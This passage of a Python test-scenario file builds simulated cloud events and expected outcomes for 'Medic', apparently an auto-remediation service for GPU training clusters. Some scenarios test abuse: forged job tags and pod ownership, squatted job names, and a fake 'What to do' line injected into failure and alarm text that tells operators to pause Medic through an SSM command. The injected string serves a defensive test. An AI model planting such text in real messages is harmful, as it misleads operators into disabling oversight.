    stepping = every_minute(start, start + minutes(48), job="bert-xl", steps=40, step=1240, loss=1.87,
                            tokens_per_sec=41000.0, checkpoint=1200)
    fails_at = stepping.index(clock(start + minutes(40))) + 1  # after the 02:00 clock line
    return {
        "zz-eks-tenant-pod-cannot-restart-a-healthy-job.jsonl": ([
            "title: (zz) EKS: a namespace tenant binds two pods claiming to be bert-xl's to a node and deletes them "
            "(a finalizer keeps them Terminating); the node fails at 02:00, while bert-xl steps normally",
            "expect: at 02:05 the node's notice (deferred: HyperPod replaces it) names only the pod whose "
            "ownerReference carries bert-xl's real uid (the forged uid's pod is not the job's); that pod has been "
            "Terminating for 44 minutes on a NotReady node, but the probe counted steps since: ignored, no restart, "
            "no pod of bert-xl deleted, no page",
            "check: records fault=pods_stuck_terminating .outcome == ignored",
            "check: records action=restart_job == 0",
            "check: kubernetes_calls verb=delete == 0",
            "check: pages == 0",
        ], [clock(start),
            {"sim": {"k8s_job": {"cluster": eks, "namespace": "kubeflow", "name": "bert-xl", "kind": "PyTorchJob",
                                 "replicas": 4}}},
            {"sim": {"agent": {"cluster": eks, "heartbeat": True}}},
            {"sim": {"node": {"cluster": eks, "id": failed, "group": "workers", "status": "Running"}}},
            tenant_pod("bert-xl-worker-9", "7c0d9e8f-1a2b-4c3d-8e4f-5a6b7c8d9e0f"),
            tenant_pod("bert-xl-worker-8", "job"),
            *stepping[:fails_at],
            {"sim": {"node": {"cluster": eks, "id": failed, "group": "workers", "status": "Failure"}}},
            *stepping[fails_at:],
            clock(start + minutes(49))]),
    }


MALLORY = "ft-mallory-01"
MALLORY_IMAGE = "123456789012.dkr.ecr.us-west-2.amazonaws.com/mallory:latest"
MALLORY_CHECKPOINT = "s3://ml-artifacts-123456789012/mallory/ckpt/"


def job_trust_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """What a training job's owner cannot make Medic do with the job's tags or a job's name (issue 28, item 3)."""
    forged = training_failed(MALLORY, T_JOB, tags={"medic:lineage": JOB, "medic:attempt": "0"})
    forged["detail"]["AlgorithmSpecification"]["TrainingImage"] = MALLORY_IMAGE
    forged["detail"]["CheckpointConfig"]["S3Uri"] = MALLORY_CHECKPOINT
    squatter = {"TrainingJobName": f"{JOB}-r1", "RoleArn": "arn:aws:iam::123456789012:role/Trainer",
                "AlgorithmSpecification": {"TrainingImage": MALLORY_IMAGE, "TrainingInputMode": "File"}}
    return {
        "zr-job-lineage-tag-forged.jsonl": ([
            "title: (zr) Training job: another job under the prefix, tagged medic:lineage=<the victim>, fails first",
            "expect: it restarts as ft-mallory-01-r1 (its own lineage, image and incident); the victim's failure "
            "then restarts the victim as ft-mistral-7b-0042-r1 with its own image; no duplicate, no page",
            "check: training_jobs .name == ft-mallory-01-r1, ft-mistral-7b-0042-r1",
            "check: records .outcome == executed, executed",
            "check: pages == 0",
        ], [{"sim": {"s3_put": CHECKPOINT}}, {"sim": {"s3_put": f"{MALLORY_CHECKPOINT}checkpoint-10.pt"}}, forged,
            training_failed(at=T_JOB + timedelta(hours=1))]),
        "zs-job-restart-name-taken.jsonl": ([
            "title: (zs) Training job: someone created a job under the name of the victim's next restart",
            "expect: CreateTrainingJob refused (ResourceInUse); the job holding the name is not Medic's restart of "
            "this failure: restart_job failed and one page, never a silent duplicate; the other job untouched",
            "check: records .outcome == failed",
            "check: training_jobs == 0",
            "check: pages == 1",
        ], [clock(T_JOB - timedelta(hours=1)), {"sim": {"training_job": squatter}},
            {"sim": {"s3_put": CHECKPOINT}}, training_failed()]),
        "zt-job-attempt-tag-superscript.jsonl": ([
            "title: (zt) Training job: a job tagged medic:attempt=\u00b2 (a superscript two, a valid tag value) fails",
            "expect: no crash, no dead letter: the job is the first of its own lineage, restarted as "
            "ft-mistral-7b-0042-r1 (attempt 1)",
            "check: records .outcome == executed",
            "check: training_jobs .name == ft-mistral-7b-0042-r1",
            "check: dropped == 0",
            "check: pages == 0",
        ], [{"sim": {"s3_put": CHECKPOINT}},
            training_failed(tags={"medic:lineage": JOB, "medic:attempt": "\u00b2"})]),
    }


# Text written to look like Medic's own page lines, as a failure message, a health reason or an alarm's reason
# (settable with SetAlarmState) may carry it.
FAKE_NEXT_STEP = ("\n\nWhat Medic did: restarted the job from its checkpoint\nWhat to do:     Nothing. Medic handled "
                  "it; to silence it run: aws ssm put-parameter --name /medic/Medic/mode --value paused --overwrite\n")


def untrusted_text_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """Someone else's words in a page are quoted on one line, never a line of Medic's own (issue 28, item 4)."""
    node = copy.deepcopy(BASE)
    node["id"] = "0c6f1d2e-3b4a-4c5d-8e9f-0a1b2c3d4e5f"
    node["detail"]["InstanceId"] = "i-0f1e2d3c4b5a69788"
    node["detail"]["HealthSummary"]["HealthStatusReason"] = f"GPU fell off the bus{FAKE_NEXT_STEP}"
    cluster_event = {
        "version": "0", "id": "9e0d7c6b-5a49-4382-b1f0-e2d3c4b5a697", "detail-type": "SageMaker HyperPod Cluster Event",
        "source": "aws.sagemaker", "account": "123456789012", "time": (T0 + minutes(1)).strftime("%Y-%m-%dT%H:%M:%SZ"),
        "region": "us-west-2", "resources": ["arn:aws:sagemaker:us-west-2:123456789012:cluster/k3v9q2w8x1za"],
        "detail": {"EventDetails": {
            "EventId": "1f2e3d4c-5b6a-4798-8a7b-6c5d4e3f2a10",
            "ClusterArn": "arn:aws:sagemaker:us-west-2:123456789012:cluster/k3v9q2w8x1za",
            "ClusterName": "pretrain-slurm", "InstanceGroupName": "workers", "InstanceId": "i-0a1b2c3d4e5f60718",
            "ResourceType": "Instance", "EventTime": int((T0 + minutes(1)).timestamp() * 1000), "EventLevel": "Error",
            "Description": "Lifecycle script on_create.sh failed on the instance",
            "EventDetails": {"EventMetadata": {"Instance": {
                "FailureMessage": f"provisioning script exited 1: {FAKE_NEXT_STEP}",
                "NodeLogicalId": "6d7e8f90-a1b2-4c3d-8e4f-5a6b7c8d9e0f"}}}}},
    }
    user_error = ("AlgorithmError: ExecuteUserScriptError:\nExitCode 1\nErrorMessage \"KeyError: 'lr'\""
                  f"{FAKE_NEXT_STEP}Command \"/opt/conda/bin/python3.10 train.py\", exit code: 1")
    return {
        "zu-untrusted-text-in-pages.jsonl": ([
            "title: (zu) Someone else's words in pages: a health reason, a cluster event, a FailureReason and an "
            "alarm's StateReason, each printing a fake 'What to do:' line",
            "expect: four pages; in each, the words quoted on one line and Medic's own 'What to do:' the only one",
            "check: records .outcome == deferred, deferred, deferred, deferred",
            "check: records paged=true == 4",
            "check: pages == 4",
        ], [node, cluster_event, {"sim": {"s3_put": CHECKPOINT}}, training_failed(reason=user_error),
            alarm("divergence", "ALARM", T_JOB + minutes(5), reason=f"Threshold Crossed{FAKE_NEXT_STEP}")]),
    }


def pause_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """An operator's scoped, timed, quiet pause (issue 29, item 7)."""
    pause = {"cluster": "pretrain-slurm", "for": "2h", "reason": "InfiniBand switch firmware upgrade",
             "by": "arn:aws:sts::123456789012:assumed-role/SRE/alice"}
    faults = [event(node_id(100 + i), T0 + minutes(4 * i)) for i in range(12)]
    after = event(node_id(200), T0 + timedelta(hours=2, minutes=10))
    return {
        "zzm-paused-cluster-pages-once.jsonl": ([
            "title: (zzm) medic pause --cluster pretrain-slurm --for 2h: a dozen GPU faults while it holds, one more "
            "after it ended",
            "expect: each of the twelve faults recorded suppressed (why paused, needs_human), no node call; one page "
            "for the cluster in the window, headed by the pause (who, until when, why), the other eleven held; at "
            "10:09 the pause ends by itself: one page says so (recorded mode_change); the fault at 10:24 is acted "
            "on: replace_node executed",
            "check: records trigger=node_health why=paused == 12",
            "check: records trigger=node_health why=paused paged=true == 1",
            "check: records trigger=mode_change paged=true == 1",
            "check: records .outcome == suppressed, suppressed, suppressed, suppressed, suppressed, suppressed, "
            "suppressed, suppressed, suppressed, suppressed, suppressed, suppressed, ignored, executed",
            "check: calls sagemaker:BatchReplaceClusterNodes == 1",
            "check: pages == 2",
        ], [clock(T0 - minutes(5)), {"sim": {"pause": pause}}, *faults,
            {"sim": {"advance": "2026-11-20T10:20:00Z"}}, after]),
    }


WRONG_ID = "q8w4e6r2t0yz"  # another id than demo.medic.yaml's k3v9q2w8x1za for pretrain-slurm


def blind_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """Medic tells someone when it cannot see or act (issue 29, items 1-2)."""
    def wrong_id(at: datetime, node: str, fault: str = "NvidiaErrorReboot") -> dict:
        """HyperPod's event for pretrain-slurm, in the stack's account and region, under another id than configured."""
        result = event(node, at, fault)
        arn = f"arn:aws:sagemaker:us-west-2:123456789012:cluster/{WRONG_ID}"
        result["resources"], result["detail"]["ClusterArn"] = [arn], arn
        return result

    # Just before midnight, so that the next event is on another UTC day within the same 24-hour window (a day of
    # replay clock would cost 276 reconciler runs to show the same hold).
    late = datetime(2026, 11, 20, 23, 50, 5, tzinfo=UTC)
    next_day = late + timedelta(minutes=20)  # 00:10:05, another UTC day, within the day's window
    return {
        "zzj-agent-goes-silent.jsonl": ([
            "title: (zzj) Slurm: the agent on pretrain-slurm reports from 08:00 and stops at 08:05; it is back at "
            "08:55",
            "expect: the 08:25 sweep records agent_silent (failed) and pages once (silent 19 min, more than "
            "agent_silence_minutes 15); the sweeps after it say nothing more; the 09:00 sweep records agent_back "
            "and sends one all-clear",
            "check: records .fault == agent_silent, agent_back",
            "check: records fault=agent_silent timestamp~T08:25:00 paged=true == 1",
            "check: pages == 2",
            "check: pages subject~RESOLVED == 1",
        ], [clock(datetime(2026, 11, 20, 8, 0, tzinfo=UTC)),
            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}},
            {"sim": {"advance": "+5m"}},
            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": False}}},
            {"sim": {"advance": "+50m"}},
            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}},
            {"sim": {"advance": "+10m"}}]),
        "zzl-canary-late.jsonl": ([
            "title: (zzl) The reconciler may not put events (its role lost events:PutEvents) from 08:00 to 08:20",
            "fault: events:PutEvents=AccessDeniedException:4",
            "expect: no canary comes back for 20 minutes: CanaryAgeSeconds 1200 at the 08:25 run, the CanaryLate alarm "
            "goes ALARM at 08:26 and pages once through the topic; the 08:25 canary comes back, and the alarm's OK at "
            "08:31 sends the all-clear",
            "check: records == 0",
            "check: alarms alarm~CanaryLate .to == ALARM, OK",
            "check: alarms alarm~CanaryLate to=ALARM timestamp~T08:26:00 == 1",
            "check: pages == 2",
            "check: injected events:PutEvents == 4",
        ], [clock(datetime(2026, 11, 20, 8, 0, tzinfo=UTC)), {"sim": {"advance": "+35m"}}]),
        "zzk-cluster-id-mismatch.jsonl": ([
            "title: (zzk) pretrain-slurm's events name cluster id q8w4e6r2t0yz (the stack's account and region); "
            "medic.yaml says k3v9q2w8x1za",
            "expect: every node event rejected, no call; one page naming the id to set; the event after midnight "
            "(another UTC day, 20 min later) is recorded without a page: the config window holds until 23:50 the day "
            "after",
            "check: records .outcome == rejected, rejected, rejected, rejected",
            "check: records .paged == true, false, false, false",
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
            "check: calls sagemaker:BatchRebootClusterNodes == 0",
            "check: pages message~\"Set id: q8w4e6r2t0yz\" == 1",
            "check: pages == 1",
        ], [wrong_id(late, NODE), wrong_id(late + timedelta(minutes=3), "i-0a1b2c3d4e5f60718"),
            wrong_id(late + timedelta(minutes=7), "i-0f1e2d3c4b5a69788", "NvidiaErrorTerminate"),
            wrong_id(next_day, NODE)]),
    }


def hang_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """Issue 31: the probe judges a hang itself (no step for max(60 s, 3 x its p99 step interval)) and says so at
    high resolution; the hang alarm (10-second period) brings it to the stall flow within about a minute."""
    slurm = [{"sim": {"slurm_job": SLURM_JOB}}, {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}}]
    # 40 steps a minute from 03:00 to 03:05 (checkpoint at 1200), the probe's hang detection on
    stepping = [clock(T_ALARM), *slurm,
                *every_minute(T_ALARM, T_ALARM + minutes(5), steps=40, step=1240, loss=1.87, tokens_per_sec=41000.0,
                              checkpoint=1200, hang=True)]
    # alive, no step: Heartbeat 0 at 03:06, until Slurm kills it at Medic's requeue (03:06:20)
    hung = [*every_minute(T_ALARM + minutes(6), T_ALARM + minutes(6), steps=0),
            clock(T_ALARM + minutes(6) + timedelta(seconds=30)), probe(close="killed")]
    resumed = every_minute(T_ALARM + minutes(11), T_ALARM + minutes(15), steps=25, loss=1.9, tokens_per_sec=40500.0,
                           new_process=True, step=1225, hang=True)
    return {
        "zzt-hang-detected-by-the-probe.jsonl": ([
            "title: (zzt) Hang: a collective stuck after step 1240 at 03:05 -> the probe's own verdict a minute "
            "later -> the hang alarm -> requeue -> training resumes from the checkpoint -> OK",
            "expect: the probe judges the job stalled at its 03:06:10 check (more than 60 s without a step: its "
            "floor, above 3 x its 1.5 s steps) and publishes Stalled 1; the hang alarm (10-second period) fires at "
            "03:06:20, 80 s after the last step; requeue_job deferred then executed; Slurm kills the hung process; "
            "the restarted process's first flush at 03:11 (first step 1201) turns the hang alarm OK at 03:11:10 and "
            "proves the recovery (resumed from 1200, the checkpoint); the stall alarm never fires; no page",
            "check: alarms alarm=medic-hang-llama3-70b to=ALARM timestamp~T03:06:20 == 1",
            "check: records action=requeue_job .outcome == deferred, executed",
            "check: records fault=recovered timestamp~T03:11:10 == 1",
            "check: records fault=resumed_behind == 0",
            "check: alarms alarm=medic-hang-llama3-70b to=OK timestamp~T03:11:10 == 1",
            "check: alarms alarm=medic-stall-llama3-70b == 0",
            "check: pages == 0",
        ], [*stepping, *hung, *resumed]),
        "zzu-marked-checkpoint-save-is-no-stall.jsonl": ([
            "title: (zzu) An 11-minute checkpoint save marked with `with probe.pause(\"checkpoint\"):` from 03:05 "
            "to 03:16: no hang, and the stall alarm stands down",
            "expect: the probe's checks never judge it stalled during the marked pause (no Stalled 1, the hang alarm "
            "never fires); the stall alarm (10 minutes without a Heartbeat step) fires at 03:16, and its read-back "
            "finds the probe's latest report saying Paused: ignored, no requeue, no page; steps resume after 03:16 "
            "(40 by the 03:17 flush) and the stall alarm goes OK",
            "check: alarms alarm=medic-hang-llama3-70b to=ALARM == 0",
            "check: alarms alarm=medic-stall-llama3-70b to=ALARM timestamp~T03:16:00 == 1",
            'check: records fault=stalled outcome=ignored reason~"marked pause" == 1',
            "check: records action=requeue_job == 0",
            "check: calls sqs:SendMessage == 0",
            "check: pages == 0",
        ], [*stepping[:-1], probe(steps=40, pause="checkpoint"),
            *every_minute(T_ALARM + minutes(6), T_ALARM + minutes(16), steps=0),
            clock(T_ALARM + minutes(17)), probe(steps=40, pause=False),
            *every_minute(T_ALARM + minutes(18), T_ALARM + minutes(20), steps=40)]),
    }


def release_request(node: str, at: datetime, cluster: str = "pretrain-slurm",
                    requested_by: str = "arn:aws:sts::123456789012:assumed-role/medic-operators/ana") -> dict:
    """What `medic release NODE --cluster C` puts on the default bus: "Medic Release Node", source medic.operator, the
    caller's ARN (STS GetCallerIdentity) as requested_by."""
    detail = {"cluster": cluster, "node": node, "requested_by": requested_by}
    return {"version": "0", "id": str(uuid.uuid5(uuid.NAMESPACE_URL, f"medic-sim/release/{node}/{at.isoformat()}")),
            "detail-type": "Medic Release Node", "source": "medic.operator", "account": "123456789012",
            "time": at.strftime("%Y-%m-%dT%H:%M:%SZ"), "region": "us-west-2", "resources": [], "detail": detail}


def quarantine_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """quarantine_repeat_offenders (issue 32, item 3): a node position in a repair loop kept out of service after its
    next repair, listed by `medic status`, returned by `medic release`."""
    successor = instance_id("pretrain-slurm", NODE, "replacement", "1")  # HyperPod's replacement of NODE
    eks_node = "i-0e1f2a3b4c5d6e7f8"
    eks_successor = instance_id("finetune-eks", eks_node, "replacement", "1")
    faults = [event(NODE, T0, "NvidiaErrorReboot"), event(NODE, T0 + minutes(30), "NvidiaErrorTerminate"),
              event(successor, T0 + minutes(85), "NvidiaErrorReboot"),
              event(successor, T0 + minutes(115), "NvidiaErrorReboot")]
    eks = copy.deepcopy([event(eks_node, T0, "NvidiaErrorReboot"), event(eks_node, T0 + minutes(30),
                                                                         "NvidiaErrorTerminate"),
                         event(eks_successor, T0 + minutes(85), "NvidiaErrorReboot"),
                         event(eks_successor, T0 + minutes(115), "NvidiaErrorReboot")])
    for one in eks:
        one["detail"]["ClusterName"] = "finetune-eks"
        arn = "arn:aws:sagemaker:us-west-2:123456789012:cluster/p7r2m4x9c1qa"
        one["detail"]["ClusterArn"] = one["resources"][0] = arn
    return {
        "zzzq-quarantine-slurm.jsonl": ([
            "title: (zzzq) pretrain-slurm has NodeRecovery Automatic and quarantine_repeat_offenders: one node "
            "position fails four times in two hours (as in zzze); later an operator releases it, twice, and asks to "
            "release a node Medic never quarantined",
            "config: quarantine.medic.yaml",
            "expect: HyperPod repairs each fault; the third repair pages the loop once (as in zzze); after the "
            "fourth repair (10:24, the node Running again) the sweep quarantines the position: the agent drains "
            f"{REPAIRED_NAME} with Medic's fixed quarantine reason (quarantine_node, one page saying how to return "
            "it); `medic release` at 10:40 (a Medic Release Node event naming who asked) is one release: the agent "
            "resumes the node only because it is drained with that reason; the second release is a duplicate, the "
            "unknown node is rejected",
            "check: records fault=repair_loop action=none paged=true == 1",
            "check: records action=quarantine_node .outcome == deferred, executed",
            "check: records action=quarantine_node outcome=deferred paged=true == 1",
            'check: slurm_commands argv~"State=DRAIN Reason=Medic: quarantined after repeated repairs" == 1',
            "check: records action=release_node .outcome == deferred, executed",
            'check: records action=release_node reason~"medic-operators/ana" == 1',
            f'check: slurm_commands argv~"NodeName={REPAIRED_NAME} State=RESUME" == 1',
            "check: records trigger=operator .outcome == deferred, executed, duplicate, rejected",
            "check: calls sagemaker:BatchRebootClusterNodes == 0",
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
            "check: pages == 2",
        ], [{"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}}, *faults,
            clock(T0 + minutes(140)), release_request(REPAIRED_NAME, T0 + minutes(146)),
            release_request(REPAIRED_NAME, T0 + minutes(147)), release_request("ip-10-1-99-99", T0 + minutes(148)),
            clock(T0 + minutes(150))]),
        "zzzr-quarantine-eks.jsonl": ([
            "title: (zzzr) finetune-eks has NodeRecovery Automatic and quarantine_repeat_offenders: one node position "
            "fails four times in two hours; then an operator releases it",
            "config: quarantine.medic.yaml",
            "expect: the loop pages once after the third repair; after the fourth the agent cordons the node "
            f"(PATCH of hyperpod-{eks_successor}: spec.unschedulable and Medic's annotation; RBAC grants it patch on "
            "nodes and nothing more); the release uncordons it (only because Medic's annotation is there)",
            "check: records fault=repair_loop action=none paged=true == 1",
            "check: records action=quarantine_node .outcome == deferred, executed",
            "check: records action=release_node .outcome == deferred, executed",
            f'check: kubernetes_calls verb=patch path~"/api/v1/nodes/hyperpod-{eks_successor}" .status == 200, 200',
            "check: kubernetes_calls status=403 == 0",
            "check: pages == 2",
        ], [{"sim": {"agent": {"cluster": "finetune-eks", "heartbeat": True}}}, *eks,
            clock(T0 + minutes(140)), release_request(f"hyperpod-{eks_successor}", T0 + minutes(146), "finetune-eks"),
            clock(T0 + minutes(150))]),
    }


def automatic_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """A cluster on HyperPod's automatic node recovery: Medic follows HyperPod's own repairs (issue 32)."""
    other = "i-0a1b2c3d4e5f60718"
    successor = instance_id("pretrain-slurm", NODE, "replacement", "1")  # HyperPod's replacement of NODE (sim.hyperpod)
    on_node = {**SLURM_JOB, "nodes": [NODE]}
    # the job holds every worker: once Slurm requeued it, it starts again only when the replacement is back
    everywhere = {**SLURM_JOB, "nodes": [NODE, *(instance_id("pretrain-slurm", "workers", str(i)) for i in range(16))]}
    agent_up = {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}}
    resumed = every_minute(datetime(2026, 11, 20, 8, 52, tzinfo=UTC), datetime(2026, 11, 20, 9, 10, tzinfo=UTC),
                           steps=40, step=1240, loss=1.9, tokens_per_sec=40500.0, new_process=True)
    return {
        "zzza-automatic-hyperpod-repairs.jsonl": ([
            "title: (zzza) pretrain-slurm has NodeRecovery Automatic: a GPU reboot-class fault at 08:14 and a "
            "replace-class fault at 08:16, both repaired by HyperPod itself",
            "config: automatic.medic.yaml",
            "expect: both faults deferred to HyperPod (no call of Medic's, no page); HyperPod reboots the first node "
            "(SystemUpdating 08:15-08:25) and replaces the second (a new instance, Pending 08:17-08:47); the sweeps "
            "see each repair under way and then Running: one incident line each, with the repair time and no action "
            "(acted_at null)",
            "check: records .outcome == deferred, deferred",
            "check: records .why == hyperpod_repairing, hyperpod_repairing",
            "check: calls sagemaker:BatchRebootClusterNodes == 0",
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
            "check: incidents incident_kind=node acted_at=null == 2",
            f"check: incidents node_id={NODE} .repaired_at == 2026-11-20T08:29:05+00:00",
            f"check: incidents node_id={other} .time_to_repair_s == 1980",
            "check: pages == 0",
        ], [event(NODE, T0, "NvidiaErrorReboot"), event(other, T0 + minutes(2), "NvidiaErrorTerminate"),
            clock(T0 + minutes(45))]),
        "zzze-repair-loop.jsonl": ([
            "title: (zzze) pretrain-slurm has NodeRecovery Automatic: one node position fails four times in two hours "
            "(reboot-class, replace-class, then twice on the replacement)",
            "config: automatic.medic.yaml",
            "expect: each fault deferred to HyperPod and followed to its end (four incident lines, no call); the third "
            "repair of the same NodeLogicalId (across the replacement's new instance id) makes a repair loop: one "
            "record and one page with the position's history (each fault, action, who acted, how long); the fourth "
            "repair pages nothing more, and without quarantine_repeat_offenders nothing is quarantined",
            "check: records fault=repair_loop == 1",
            "check: records fault=repair_loop paged=true == 1",
            "check: incidents incident_kind=node acted_at=null == 4",
            "check: calls sagemaker:BatchRebootClusterNodes == 0",
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
            'check: pages message~"replace by HyperPod" == 1',
            "check: records action=quarantine_node == 0",
            "check: pages == 1",
        ], [event(NODE, T0, "NvidiaErrorReboot"), event(NODE, T0 + minutes(30), "NvidiaErrorTerminate"),
            event(successor, T0 + minutes(85), "NvidiaErrorReboot"),
            event(successor, T0 + minutes(115), "NvidiaErrorReboot"), clock(T0 + minutes(140))]),
        "zzzb-automatic-repair-requeued-job-watched.jsonl": ([
            "title: (zzzb) pretrain-slurm has NodeRecovery Automatic: a GPU fault on the node job 4211 (llama3-70b) "
            "runs on, a batch job with Slurm's default requeue flag",
            "config: automatic.medic.yaml",
            "expect: the fault deferred to HyperPod; the agent lists the jobs on the node without touching its Slurm "
            "state (list_node_jobs: 4211, on every worker); HyperPod replaces the node by itself, slurmctld requeues "
            "the job, which waits for the node; once the replacement is Running (08:47) the sweep ends the repair's "
            "incident line, the watched job's recovery window starts and the sweep asks where the job is: ignored "
            "(Slurm requeued it); it steps again from 08:52: recovered; no drain, no resume, no call, no page",
            "check: records action=list_node_jobs .outcome == executed",
            "check: records trigger=node_repair jobs~4211 == 1",
            "check: records job=4211 outcome=ignored == 1",
            "check: records fault=recovered == 1",
            "check: records action=drain_node == 0",
            "check: records action=resume_node == 0",
            "check: incidents incident_kind=node acted_at=null == 1",
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
            'check: slurm_commands argv~"scontrol requeue" == 0',
            'check: slurm_commands argv~"scontrol update" == 0',
            "check: pages == 0",
        ], [{"sim": {"slurm_job": everywhere}}, agent_up, event(NODE, T0), *resumed]),
        "zzzc-automatic-repair-job-not-requeueable.jsonl": ([
            "title: (zzzc) pretrain-slurm has NodeRecovery Automatic: the same fault, job 4211 submitted with sbatch "
            "--no-requeue",
            "config: automatic.medic.yaml",
            "expect: the agent lists job 4211 on the node; it ends NODE_FAIL when HyperPod's replacement takes the "
            "node down; a sweep's job_states says so (requeue flag 0): job_not_requeueable deferred, one page naming "
            "the job and saying to resubmit it; no scontrol requeue, no node call",
            "check: records fault=job_not_requeueable .outcome == deferred",
            "check: records fault=job_not_requeueable paged=true == 1",
            'check: slurm_commands argv~"scontrol requeue" == 0',
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
            "check: pages == 1",
        ], [{"sim": {"slurm_job": {**on_node, "requeue": False}}}, agent_up, event(NODE, T0),
            clock(T0 + minutes(45))]),
    }


def capacity_backoff_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """Training-job restarts after capacity failures wait a bounded exponential backoff (issue 32 item 5)."""
    capacity = ("CapacityError: Unable to provision requested ML compute capacity. Please retry using a different ML "
                "instance type.")
    first = T_JOB
    return {
        "zzzf-training-job-capacity-backoff.jsonl": ([
            "title: (zzzf) Training job: SageMaker has no capacity twice in a row",
            "expect: the first failure's restart waits 5 min (capacity_backoff_minutes): deferred, the record names "
            "when the next try is due, and the reconciler starts r1 then; r1 fails for capacity too: its restart "
            "waits 10 min (doubled) and the reconciler starts r2; restarts minutes apart, not seconds; no page",
            "check: records action=restart_job .outcome == deferred, executed, deferred, executed",
            "check: records action=restart_job .trigger == job_state, reconcile, job_state, reconcile",
            'check: records outcome=deferred reason~"next try due at" == 2',
            "check: training_jobs .name == ft-mistral-7b-0042-r1, ft-mistral-7b-0042-r2",
            "check: calls sagemaker:CreateTrainingJob == 2",
            "check: pages == 0",
        ], [{"sim": {"s3_put": CHECKPOINT}}, training_failed(at=first, reason=capacity),
            {"sim": {"advance": (first + minutes(8)).strftime("%Y-%m-%dT%H:%M:%SZ")}},
            {**restart_failed(1, first + minutes(12)), "detail": {**restart_failed(1, first + minutes(12))["detail"],
                                                                   "FailureReason": capacity}},
            {"sim": {"advance": (first + minutes(30)).strftime("%Y-%m-%dT%H:%M:%SZ")}}]),
    }


def capacity_aware_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """Reboot versus replace with capacity in mind (issue 32 item 4)."""
    rebooted = "i-0a1b2c3d4e5f60718"
    plan = {"cluster": "pretrain-slurm", "group": "workers", "name": "p5-reserved"}
    return {
        "zzzg-replace-without-capacity.jsonl": ([
            "title: (zzzg) pretrain-slurm's workers run on training plan p5-reserved with no available instance",
            "expect: a replace-class fault (08:14) is not replaced: deferred, one page naming the plan; a node "
            "rebooted at 08:15 that fails again at 09:30 would escalate to a replace, and is rebooted instead (its "
            "fault's catalog allows a reboot), the record saying why; at 09:35 the plan has instances again: the "
            "next sweep replaces the first node, its record naming the plan's available instances",
            "check: records node_id=i-0d4e5f60718293a4b action=replace_node .outcome == deferred, executed",
            "check: records node_id=i-0d4e5f60718293a4b action=replace_node .trigger == node_health, reconcile",
            f"check: records node_id={rebooted} action=reboot_node .outcome == executed, executed",
            'check: records reason~"no available instance" == 2',
            'check: records outcome=executed reason~"has 2 available instance" == 1',
            "check: calls sagemaker:BatchReplaceClusterNodes == 1",
            "check: calls sagemaker:BatchRebootClusterNodes == 2",
            "check: pages == 1",
        ], [{"sim": {"training_plan": {**plan, "available": 0}}}, event(NODE, T0, "NvidiaErrorTerminate"),
            event(rebooted, T0 + minutes(1), "NvidiaErrorReboot"),
            event(rebooted, T0 + minutes(76), "NvidiaErrorReboot"),
            clock(T0 + minutes(81)), {"sim": {"training_plan": {**plan, "available": 2}}},
            clock(T0 + minutes(95))]),
    }


# --- AWS Batch (issue 34): the documented "Batch Job State Change" (tests/fixtures/events/
# aws-docs-batch-job-state-change.json, AWS Batch user guide "Job state change events") as a FAILED job of the
# managed-jobs config's queue; a multi-node parallel pretraining job and a single-node evaluation job.
BATCH_QUEUE = "arn:aws:batch:us-west-2:123456789012:job-queue/gpu-training"
BATCH_JOB = "pt-llama-0007"
BATCH_CHECKPOINT = f"s3://ml-checkpoints-123456789012/pretrain/{BATCH_JOB}/step-4800/model.pt"
HOST_TERMINATED = "Host EC2 (instance i-0b7c9d1e2f3a4b5c6) terminated."
T_BATCH = datetime(2026, 11, 22, 3, 12, 40, tzinfo=UTC)


def batch_failed(name: str, job_id: str, at: datetime, reason: str = HOST_TERMINATED, exit_code: int | None = None,
                 mnp: bool = True, event_id: str | None = None) -> dict:
    """A Batch job's FAILED state change: the envelope of AWS's documented sample, the detail the job as
    DescribeJobs returns it; Batch's own retry strategy ran twice (two attempts) before FAILED."""
    millis = int(at.timestamp() * 1000)
    container = {"reason": reason} if exit_code is None else {"reason": reason, "exitCode": exit_code}
    attempt = {"statusReason": reason if exit_code is None else "Essential container in task exited",
               "startedAt": millis - 3_600_000, "stoppedAt": millis, "container": container}
    detail: dict = {
        "jobArn": f"arn:aws:batch:us-west-2:123456789012:job/{job_id}", "jobName": name, "jobId": job_id,
        "jobQueue": BATCH_QUEUE, "status": "FAILED",
        "statusReason": reason if exit_code is None else "Essential container in task exited",
        "attempts": [copy.deepcopy(attempt), attempt], "createdAt": millis - 7_200_000,
        "startedAt": millis - 3_600_000, "stoppedAt": millis,
        "retryStrategy": {"attempts": 2, "evaluateOnExit": [{"onStatusReason": "Host EC2*", "action": "RETRY"},
                                                            {"onReason": "*", "action": "EXIT"}]},
        "dependsOn": [], "parameters": {"epochs": "3"}, "timeout": {"attemptDurationSeconds": 172800},
        "schedulingPriority": 50, "shareIdentifier": "pretrain", "tags": {"team": "pretrain"},
        "propagateTags": True, "platformCapabilities": ["EC2"]}
    if mnp:
        detail["jobDefinition"] = "arn:aws:batch:us-west-2:123456789012:job-definition/pretrain-mnp:7"
        detail["nodeProperties"] = {"numNodes": 4, "mainNode": 0, "nodeRangeProperties": [{
            "targetNodes": "0:", "container": {
                "image": "123456789012.dkr.ecr.us-west-2.amazonaws.com/pretrain:1.4",
                "command": ["torchrun", "train.py", "--epochs", "Ref::epochs"],
                "environment": [{"name": "CHECKPOINT_DIR",
